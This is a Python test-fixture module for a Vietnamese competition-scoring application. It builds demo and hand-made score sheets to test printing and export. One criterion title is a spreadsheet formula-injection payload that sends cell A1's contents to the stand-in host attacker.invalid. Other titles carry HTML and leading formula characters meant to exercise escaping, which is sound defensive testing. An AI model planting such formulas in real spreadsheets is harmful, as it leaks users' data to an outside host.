"""Score sheets for the printing and exchange tests: the demo's, and hand-made awkward ones."""

from __future__ import annotations

import unicodedata
import uuid
from dataclasses import replace

from emudesk.db import Database
from emudesk.rules import CriterionKind, ScorerRole
from emudesk.services.organisation.units import UnitRef
from emudesk.services.scoring.ranking import ScoreSheet, SheetRow, SheetScorer, score_sheet

UNIT_NAME = "Ban Dân tộc tỉnh Đắk Lắk"
INJECTION = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'


def demo_sheet(database: Database) -> ScoreSheet:
    """Đắk Lắk's 2024 sheet in the ethnic-affairs cluster of the demo database."""
    with database.session() as session:
        return score_sheet(session, "UBDT-C4", 2024, "dak lak")


def _scorer(role: ScorerRole, label: str) -> SheetScorer:
    return SheetScorer(f"{role.value}:{uuid.uuid4()}", label, role)


def hand_sheet(
    *, peers: int = 2, head: bool = True, titles: dict[str, str] | None = None
) -> ScoreSheet:
    """A small sheet with every kind of row, a decomposed (NFD) unit name and hostile titles."""
    self_col = _scorer(ScorerRole.SELF, "Sở A")
    provinces = ("Lạng Sơn", "Tuyên Quang", "Hà Giang", "Cao Bằng", "Bắc Kạn", "Lào Cai", "Yên Bái")
    peer_cols = [
        _scorer(ScorerRole.PEER, f"Sở VHTTDL tỉnh {provinces[n % len(provinces)]}")
        for n in range(peers)
    ]
    head_cols = [_scorer(ScorerRole.HEAD, "Sở B")] if head else []
    scorers = (self_col, *peer_cols, *head_cols)

    def values(raw: int, head_raw: int | None = None, *, step: int = 25) -> dict[str, int]:
        given = {self_col.key: raw, **{p.key: raw - step * i for i, p in enumerate(peer_cols)}}
        if head_raw is not None and head_cols:
            given[head_cols[0].key] = head_raw
        return given

    titles = titles or {}
    rows = (
        SheetRow(
            "I",
            titles.get("I", "Công tác chuyên môn <b>&</b> tham mưu"),
            CriterionKind.SECTION,
            0,
            6000,
            {},
            5025,
        ),
        SheetRow("1", "Nhiệm vụ được giao", CriterionKind.SECTION, 1, 4000, {}, None),
        SheetRow(
            "1.1",
            titles.get("1.1", INJECTION),
            CriterionKind.POINTS,
            2,
            2000,
            values(2000, 1900),
            1900,
        ),
        SheetRow(
            "1.2",
            "- Tỉ lệ hồ sơ đúng hạn (chỉ tiêu 95 %)",
            CriterionKind.QUANTITATIVE,
            2,
            1000,
            values(9650),
            1000,
        ),
        SheetRow(
            "1.3",
            "+ Sáng kiến được công nhận",
            CriterionKind.PER_OCCURRENCE,
            2,
            1000,
            values(3, step=0),
            600,
        ),
        SheetRow(
            "2", "@ Ký giao ước thi đua", CriterionKind.PASS_FAIL, 1, 2000, values(2000), 1525
        ),
        SheetRow("II", "#N/A", CriterionKind.SECTION, 0, 4000, {}, 3850),
        SheetRow("3", "Tổ chức phong trào", CriterionKind.POINTS, 1, 4000, values(3900), 3850),
        SheetRow("T1", "Điểm thưởng: mô hình mới", CriterionKind.BONUS, 0, 200, values(150), 150),
        SheetRow("Đ1", "Điểm trừ: chậm báo cáo", CriterionKind.DEDUCTION, 0, 500, values(50), 50),
    )
    return ScoreSheet(
        cluster_code="TEST-1",
        cluster_name="Cụm thi đua số 9",
        issuer_name="Bộ Văn hóa, Thể thao và Du lịch",
        year=2024,
        unit=UnitRef(uuid.uuid4(), "SA", unicodedata.normalize("NFD", UNIT_NAME), "Sở A"),
        table_title="Bảng chấm điểm thử nghiệm",
        declared_total=10000,
        decimals=2,
        scorers=scorers,
        rows=rows,
        section_totals={"I": 5025, "II": 3850},
        bonus=150,
        deduction=50,
        total=8975,
        rank=2,
        member_count=5,
        decided_by="total",
        explanation="Sở C trên Sở A: tổng 90,10 so với 89,75",
        self_total=9900,
        peer_mean_total=9000,
    )


def with_unit_name(sheet: ScoreSheet, name: str) -> ScoreSheet:
    return replace(sheet, unit=replace(sheet.unit, name=name))


def long_sheet(leaves: int) -> ScoreSheet:
    """A sheet whose one section has ``leaves`` criteria, to move page breaks around."""
    base = hand_sheet(peers=7)
    scorers = base.scorers
    rows = [
        SheetRow(
            "I", "Nhiệm vụ chuyên môn", CriterionKind.SECTION, 0, 100 * leaves, {}, 90 * leaves
        )
    ]
    rows.extend(
        SheetRow(
            f"1.{n + 1}",
            f"Tiêu chí thứ {n + 1}",
            CriterionKind.POINTS,
            1,
            100,
            {s.key: 90 for s in scorers},
            90,
        )
        for n in range(leaves)
    )
    return replace(
        base,
        rows=tuple(rows),
        section_totals={"I": 90 * leaves},
        bonus=0,
        deduction=0,
        total=90 * leaves,
        declared_total=100 * leaves,
    )
